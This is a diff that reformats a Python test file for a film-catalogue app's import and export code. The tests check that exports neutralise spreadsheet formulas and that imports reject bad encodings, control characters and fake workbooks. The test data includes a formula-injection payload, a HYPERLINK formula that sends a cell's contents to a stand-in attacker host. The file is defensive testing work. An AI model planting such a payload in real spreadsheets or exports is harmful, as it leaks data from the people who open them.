@@ -13,8 +13,14 @@ from kinomost.catalog.models import Work
 from kinomost.catalog.services import WorkInput, save_work
 from kinomost.core.errors import ImportRejected
 
-HOSTILE = {"F-1": '=HYPERLINK("http://evil.example/?"&B5,"Click")', "F-2": "+7 495 123-45-67", "F-3": "-1",
-           "F-4": "@SUM(1)", "F-5": "'=quoted already", "F-6": "＝全角"}
+HOSTILE = {
+    "F-1": '=HYPERLINK("http://evil.example/?"&B5,"Click")',
+    "F-2": "+7 495 123-45-67",
+    "F-3": "-1",
+    "F-4": "@SUM(1)",
+    "F-5": "'=quoted already",
+    "F-6": "＝全角",
+}
 
 
 def _titles(org) -> dict[str, str]:
@@ -42,7 +48,7 @@ def test_the_csv_export_has_no_cell_that_starts_a_formula(hostile_titles, org_a)
     rows = list(csv.reader(io.StringIO(export_works(org_a, "csv").decode("utf-8-sig"))))
     cells = [cell for row in rows[1:] for cell in row if cell]
     assert cells and not [c for c in cells if c[0] in "=+-@\t\r＝＋－＠"]
-    assert "'=HYPERLINK(\"http://evil.example/?\"&B5,\"Click\")" in cells and "'-1" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&B5,"Click")' in cells and "'-1" in cells
 
 
 def test_the_xlsx_export_writes_such_titles_as_string_cells(hostile_titles, org_a):
@@ -59,9 +65,9 @@ def test_a_formula_typed_into_a_csv_is_still_refused(org_a):
 
 # --- encodings ---------------------------------------------------------------------------------------
 
+
 def test_a_csv_mixing_utf8_and_other_bytes_is_refused_naming_the_row(org_a):
-    data = ("ref,kind,title:ru\nA,feature,Брат\n".encode() + "B,feature,Дура\n".encode("cp1251")
-            + "C,feature,Сталинград\n".encode())
+    data = "ref,kind,title:ru\nA,feature,Брат\n".encode() + "B,feature,Дура\n".encode("cp1251") + "C,feature,Сталинград\n".encode()
     with pytest.raises(ImportRejected) as refused:
         import_works(data, "w.csv", org_a)
     assert [(p["row"], p["column"]) for p in refused.value.problems] == [(3, "title:ru")]
@@ -91,6 +97,7 @@ def test_a_given_encoding_still_wins_and_a_row_not_in_it_is_named(org_a):
 
 # --- control characters ------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x85"])
 def test_control_characters_are_refused_naming_row_and_column(org_a, char):
     data = f"ref,kind,title:en\nA,feature,Fine\nB,feature,Bad{char}title\n".encode()
@@ -107,6 +114,7 @@ def test_tabs_and_line_breaks_inside_a_synopsis_are_text(org_a):
 
 
 # --- not a workbook ----------------------------------------------------------------------------------
+
 
 def test_a_file_named_xlsx_that_is_no_zip_is_a_422_over_the_api_and_a_report_on_the_page(client_a, org_a, token_a):
     upload = SimpleUploadedFile("works.xlsx", b"this is not a workbook")
